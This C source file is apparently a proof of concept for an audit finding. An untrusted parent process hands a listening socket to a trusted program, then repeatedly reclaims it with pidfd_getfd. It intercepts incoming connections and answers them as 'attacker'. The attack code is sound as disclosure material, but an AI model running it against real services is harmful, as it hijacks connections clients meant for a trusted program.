// The attack of issue 13, finding 5 (an untrusted process hands its socket to a trusted program, then takes it back):
// listens on PORT (TCP, any IPv4 address), forks a child that execs TRUSTED with the socket as its descriptor 3,
// closes its own copy, prints "child PID" and waits for a line on stdin. Then, in short bursts, it takes the socket
// back from the child with pidfd_getfd(2), answers whatever connection is waiting with "attacker\n", and closes the
// duplicate again; it prints "took N" after each burst in which it held the socket.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 3) { fprintf(stderr, "usage: %s PORT TRUSTED [ARG...]\n", argv[0]); return 2; }
    int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(atoi(argv[1])), .sin_addr.s_addr = INADDR_ANY };
    if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 16)) { perror("listen"); return 1; }
    setvbuf(stdout, NULL, _IOLBF, 0);
    pid_t child = fork();
    if (child < 0) { perror("fork"); return 1; }
    if (child == 0) {
        if (dup2(s, 3) < 0) { perror("dup2"); _exit(127); }
        execv(argv[2], argv + 2);
        perror("execv");
        _exit(127);
    }
    close(s);
    printf("child %d\n", (int)child);
    char line[16];
    if (!fgets(line, sizeof line, stdin)) return 0;
    int pidfd = syscall(SYS_pidfd_open, child, 0);
    if (pidfd < 0) { perror("pidfd_open"); return 1; }
    for (int n = 1;; n++) {
        int fd = syscall(SYS_pidfd_getfd, pidfd, 3, 0);
        if (fd < 0) { perror("pidfd_getfd"); return 1; }
        struct pollfd p = { .fd = fd, .events = POLLIN };
        if (poll(&p, 1, 20) > 0) {
            int c = accept(fd, NULL, NULL);
            if (c >= 0) {
                write(c, "attacker\n", 9);
                close(c);
            }
        }
        close(fd);
        printf("took %d\n", n);
        usleep(100000);
    }
}
